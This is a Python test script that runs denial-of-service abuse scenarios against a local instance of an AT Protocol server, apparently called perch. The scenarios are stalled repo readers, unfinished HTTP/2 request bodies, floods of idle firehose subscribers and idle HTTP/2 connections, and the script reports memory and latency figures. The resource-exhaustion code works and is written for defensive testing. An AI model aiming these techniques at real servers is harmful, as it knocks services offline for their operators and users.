#!/usr/bin/env python3
"""Denial-of-service attacks of issue 14 against a running perch, from many
loopback source addresses (Linux routes all of 127/8 to lo). Each prints one
`abuse: NAME key=value ...` line; nothing is asserted (the figures are read
by scripts/abuse.sh and scripts/reliability.sh).

  stall HOST:PORT PID DID CLIENTS
      CLIENTS getRepo readers (127.0.2.x) read 1 KB and stop, with a 4 KiB
      receive buffer. Meanwhile describeRepo and getLatestCommit are asked
      from 127.0.0.3 every 0.25 s for PROBE_SECONDS, each given 10 s.
  h2bodies HOST:PORT PID CONNS STREAMS SOURCES PASSWORD
      CONNS HTTP/2 (h2c) connections from SOURCES addresses (127.0.4.x),
      each with STREAMS createAccount streams whose bodies stop one byte
      short of the JSON limit; peak RSS, then a login from 127.0.0.3.
  subscribers HOST:PORT PID COUNT SOURCES
      COUNT firehose subscribers from SOURCES addresses (127.0.5.x) that
      read nothing; then a plain request and a new subscriber from
      127.0.6.1.
  h2idle HOST:PORT PID COUNT SOURCES
      COUNT HTTP/2 connections from SOURCES addresses (127.0.7.x), each idle
      after one request; then a new client from 127.0.6.2.
"""

import http.client
import resource
import selectors
import socket
import struct
import sys
import time

PROBE_SECONDS = 10
JSON_LIMIT = 150 * 1024


def proc_kib(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def reset_peak(pid):
    """Make VmHWM start again from the current RSS (needs root or the same user)."""
    try:
        with open(f"/proc/{pid}/clear_refs", "w") as f:
            f.write("5")
    except OSError:
        pass


def pct(values):
    """p50 p99 max in ms, or zeros."""
    if not values:
        return 0.0, 0.0, 0.0
    v = sorted(values)

    def at(p):
        return v[min(len(v) - 1, int(len(v) * p + 0.999) - 1)]

    return at(0.5), at(0.99), v[-1]


def bound_socket(src, host, port, timeout=10, rcvbuf=None):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((src, 0))
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect((host, port))
    return s


def request(src, host, port, method, path, body=None, headers=None, timeout=10):
    """One HTTP/1.1 request from `src`: (status, ms, body); status 0 when the
    connection was refused, reset or timed out."""
    t0 = time.monotonic()
    try:
        c = http.client.HTTPConnection(host, port, timeout=timeout, source_address=(src, 0))
        c.request(method, path, body=body, headers=headers or {})
        r = c.getresponse()
        data = r.read()
        c.close()
        return r.status, (time.monotonic() - t0) * 1000, data
    except (OSError, http.client.HTTPException):
        return 0, (time.monotonic() - t0) * 1000, b""


def first_success(src, host, port, path, seconds=10):
    """Retry a GET until it answers 200: (status, ms until then, tries)."""
    t0, tries, status = time.monotonic(), 0, 0
    while time.monotonic() - t0 < seconds:
        tries += 1
        status, _, _ = request(src, host, port, "GET", path, timeout=5)
        if status == 200:
            break
        time.sleep(0.05)
    return status, (time.monotonic() - t0) * 1000, tries


# --- stalled getRepo readers ----------------------------------------------------


def stall(host, port, pid, did, clients):
    qdid = did.replace("%", "%25")
    req = f"GET /xrpc/com.atproto.sync.getRepo?did={qdid} HTTP/1.1\r\nhost: x\r\n\r\n".encode()
    socks, statuses = [], {}
    for i in range(clients):
        src = f"127.0.2.{1 + i}"
        try:
            s = bound_socket(src, host, port, timeout=10, rcvbuf=4096)
            s.sendall(req)
            got = b""
            while len(got) < 1024:
                chunk = s.recv(1024 - len(got))
                if not chunk:
                    break
                got += chunk
                if b"\r\n\r\n" in got and not got.startswith(b"HTTP/1.1 200"):
                    break
            status = int(got.split()[1]) if got.startswith(b"HTTP/1.1 ") else 0
        except OSError:
            status = 0
            s = None
        statuses[status] = statuses.get(status, 0) + 1
        if s:
            socks.append(s)
    rss_stalled = proc_kib(pid, "VmRSS")
    threads = proc_kib(pid, "Threads")
    times, answered, total = [], 0, 0
    t_end = time.monotonic() + PROBE_SECONDS
    paths = [f"/xrpc/com.atproto.repo.describeRepo?repo={qdid}", f"/xrpc/com.atproto.sync.getLatestCommit?did={qdid}"]
    while time.monotonic() < t_end:
        status, ms, _ = request("127.0.0.3", host, port, "GET", paths[total % 2], timeout=10)
        total += 1
        if status == 200:
            answered += 1
            times.append(ms)
        time.sleep(0.25)
    p50, p99, mx = pct(times)
    for s in socks:
        s.close()
    # Once the stalled readers are gone, a whole export goes through again.
    t0 = time.monotonic()
    status, size = 0, 0
    while time.monotonic() - t0 < 60:
        status, _, body = request("127.0.0.3", host, port, "GET", f"/xrpc/com.atproto.sync.getRepo?did={qdid}", timeout=60)
        size = len(body)
        if status == 200:
            break
        time.sleep(0.2)
    print(
        f"abuse: stall_getrepo clients={clients} exporting={statuses.get(200, 0)} refused_429={statuses.get(429, 0)} "
        f"no_answer={statuses.get(0, 0)} probes_answered={answered}/{total} probe_p50_ms={p50:.1f} "
        f"probe_p99_ms={p99:.1f} probe_max_ms={mx:.1f} threads={threads} rss_stalled_kib={rss_stalled} "
        f"vmhwm_kib={proc_kib(pid, 'VmHWM')} getrepo_after={status} getrepo_after_bytes={size} "
        f"getrepo_after_ms={(time.monotonic() - t0) * 1000:.0f}"
    )


# --- a minimal HTTP/2 client (h2c, prior knowledge) --------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, bits, first=0):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack(headers):
    """Literal fields without indexing, new names, no Huffman: valid, if long."""
    out = b""
    for name, value in headers:
        n, v = name.encode(), value.encode()
        out += b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v
    return out


class H2:
    """One connection: answers SETTINGS and PING, follows flow control, and
    sends each stream's body as far as the server's windows allow."""

    def __init__(self, src, host, port):
        self.sock = bound_socket(src, host, port)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.sock.setblocking(False)
        self.host = f"{host}:{port}"
        self.buf = b""
        self.conn_window = 65535
        self.stream_window0 = 65535
        self.max_streams = None
        self.next_id = 1
        self.pending = {}  # stream id -> [bytes left to send, window]
        self.responses = 0
        self.closed = False
        self.out = b""
        self.sent = 0

    def open_stream(self, method, path, headers=(), body_left=0, content_length=None):
        sid = self.next_id
        self.next_id += 2
        h = [(":method", method), (":scheme", "http"), (":authority", self.host), (":path", path)]
        if content_length is not None:
            h.append(("content-length", str(content_length)))
        h.extend(headers)
        flags = END_HEADERS | (END_STREAM if content_length is None else 0)
        self.out += frame(HEADERS, flags, sid, hpack(h))
        if body_left:
            self.pending[sid] = [body_left, self.stream_window0]
        return sid

    def pump(self):
        """Queue DATA as the windows allow, then write what the socket takes."""
        for sid, st in self.pending.items():
            n = min(st[0], st[1], self.conn_window, 16384)
            while n > 0:
                self.out += frame(DATA, 0, sid, b" " * n)
                st[0] -= n
                st[1] -= n
                self.conn_window -= n
                self.sent += n
                n = min(st[0], st[1], self.conn_window, 16384)
        if self.out and not self.closed:
            try:
                sent = self.sock.send(self.out)
                self.out = self.out[sent:]
            except BlockingIOError:
                pass
            except OSError:
                self.closed = True

    def readable(self):
        try:
            data = self.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload), 6):
                    ident, value = struct.unpack(">HI", payload[i : i + 6])
                    if ident == 4:
                        for st in self.pending.values():
                            st[1] += value - self.stream_window0
                        self.stream_window0 = value
                    elif ident == 3:
                        self.max_streams = value
                self.out += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif kind == WINDOW:
                inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                if sid == 0:
                    self.conn_window += inc
                elif sid in self.pending:
                    self.pending[sid][1] += inc
            elif kind == HEADERS:
                self.responses += 1
                self.pending.pop(sid, None)
            elif kind == RST:
                self.pending.pop(sid, None)
            elif kind == GOAWAY:
                self.closed = True


def run(conns, seconds, until=None):
    """Serve the connections' frames for `seconds` (or until `until()` holds)."""
    sel = selectors.DefaultSelector()
    for c in conns:
        if not c.closed:
            sel.register(c.sock, selectors.EVENT_READ, c)
    t_end = time.monotonic() + seconds
    while time.monotonic() < t_end:
        for key, _ in sel.select(0.05):
            key.data.readable()
        for c in conns:
            c.pump()
        if until and until():
            break
    sel.close()


def settle(conns):
    """Until every connection has the server's SETTINGS (or 10 s)."""
    run(conns, 10, until=lambda: all(c.max_streams is not None or c.closed for c in conns))


def h2bodies(host, port, pid, n_conns, streams, sources, password):
    rss_before = proc_kib(pid, "VmRSS")
    reset_peak(pid)
    conns, failed = [], 0
    for i in range(n_conns):
        try:
            conns.append(H2(f"127.0.4.{1 + i % sources}", host, port))
        except OSError:
            failed += 1
    settle(conns)
    opened = 0
    for c in conns:
        for _ in range(min(streams, c.max_streams or streams)):
            c.open_stream(
                "POST",
                "/xrpc/com.atproto.server.createAccount",
                [("content-type", "application/json")],
                body_left=JSON_LIMIT - 1,
                content_length=JSON_LIMIT,
            )
            opened += 1
    # Push bodies until the server stops taking more for 2 s (at most 60 s).
    t0, last_rss, still = time.monotonic(), 0, 0
    while time.monotonic() - t0 < 60 and still < 4:
        run(conns, 0.5)
        rss = proc_kib(pid, "VmRSS")
        still = still + 1 if rss < last_rss + 1024 else 0
        last_rss = max(last_rss, rss)
    sent = sum(c.sent for c in conns)
    login = '{"identifier": "alice.test", "password": "%s"}' % password
    status, ms, _ = request(
        "127.0.0.3", host, port, "POST", "/xrpc/com.atproto.server.createSession",
        body=login, headers={"content-type": "application/json"}, timeout=60,
    )
    hwm = proc_kib(pid, "VmHWM")
    answered = sum(c.responses for c in conns)
    closed = sum(c.closed for c in conns)
    for c in conns:
        c.sock.close()
    print(
        f"abuse: h2_unfinished_bodies connections={len(conns)} connect_failed={failed} streams={opened} "
        f"sources={sources} body_bytes={JSON_LIMIT - 1} body_bytes_sent={sent} answered={answered} "
        f"closed={closed} rss_before_kib={rss_before} vmhwm_kib={hwm} login_status={status} login_ms={ms:.0f}"
    )


def h2idle(host, port, pid, count, sources):
    rss_before = proc_kib(pid, "VmRSS")
    conns, failed = [], 0
    for i in range(count):
        try:
            conns.append(H2(f"127.0.7.{1 + i % sources}", host, port))
        except OSError:
            failed += 1
    settle(conns)
    for c in conns:
        if not c.closed:
            c.open_stream("GET", "/xrpc/_health")
    run(conns, 20, until=lambda: all(c.responses or c.closed for c in conns))
    served = sum(1 for c in conns if c.responses)
    run(conns, 1)
    status, ms, tries = first_success("127.0.6.2", host, port, "/xrpc/_health")
    run(conns, 1)
    evicted = sum(1 for c in conns if c.responses and c.closed)
    print(
        f"abuse: h2_idle connections={count} sources={sources} connect_failed={failed} served={served} "
        f"new_client_status={status} new_client_ms={ms:.0f} new_client_tries={tries} idle_closed={evicted} "
        f"rss_before_kib={rss_before} rss_held_kib={proc_kib(pid, 'VmRSS')}"
    )
    for c in conns:
        c.sock.close()


# --- idle firehose subscribers ------------------------------------------------------


def subscribe(src, host, port):
    s = bound_socket(src, host, port, timeout=10)
    s.sendall(
        b"GET /xrpc/com.atproto.sync.subscribeRepos HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\n"
        b"connection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    return s, head.startswith(b"HTTP/1.1 101")


def gone(s):
    """The server closed this subscriber (EOF, reset, or a close frame)."""
    s.setblocking(False)
    try:
        data = s.recv(4096, socket.MSG_PEEK)
        return data == b"" or data[:1] == b"\x88"
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.setblocking(True)


def metric(host, port, name):
    status, _, body = request("127.0.0.1", host, port, "GET", "/metrics", timeout=5)
    for line in body.decode(errors="replace").splitlines():
        if line.startswith(name + " "):
            return line.split()[1]
    return "?" if status == 200 else f"status_{status}"


def subscribers(host, port, pid, count, sources):
    rss_before = proc_kib(pid, "VmRSS")
    socks, upgraded, failed = [], 0, 0
    for i in range(count):
        try:
            s, ok = subscribe(f"127.0.5.{1 + i % sources}", host, port)
            socks.append(s)
            upgraded += ok
        except OSError:
            failed += 1
    time.sleep(1)
    status, ms, tries = first_success("127.0.6.1", host, port, "/xrpc/_health")
    try:
        new_sub, new_ok = subscribe("127.0.6.1", host, port)
        time.sleep(0.5)
        new_stays = new_ok and not gone(new_sub)
    except OSError:
        new_ok = new_stays = False
    closed = sum(gone(s) for s in socks)
    kept = metric(host, port, "perch_firehose_subscribers")
    print(
        f"abuse: subscriber_flood subscribers={count} sources={sources} upgraded={upgraded} "
        f"connect_failed={failed} closed_by_server={closed} kept={kept} new_request_status={status} "
        f"new_request_ms={ms:.0f} new_request_tries={tries} new_subscriber={'yes' if new_stays else 'no'} "
        f"rss_before_kib={rss_before} rss_held_kib={proc_kib(pid, 'VmRSS')}"
    )
    for s in socks:
        s.close()


def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    cmd, target, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    host, port = target.rsplit(":", 1)
    port = int(port)
    args = sys.argv[4:]
    if cmd == "stall":
        stall(host, port, pid, args[0], int(args[1]))
    elif cmd == "h2bodies":
        h2bodies(host, port, pid, int(args[0]), int(args[1]), int(args[2]), args[3])
    elif cmd == "subscribers":
        subscribers(host, port, pid, int(args[0]), int(args[1]))
    elif cmd == "h2idle":
        h2idle(host, port, pid, int(args[0]), int(args[1]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
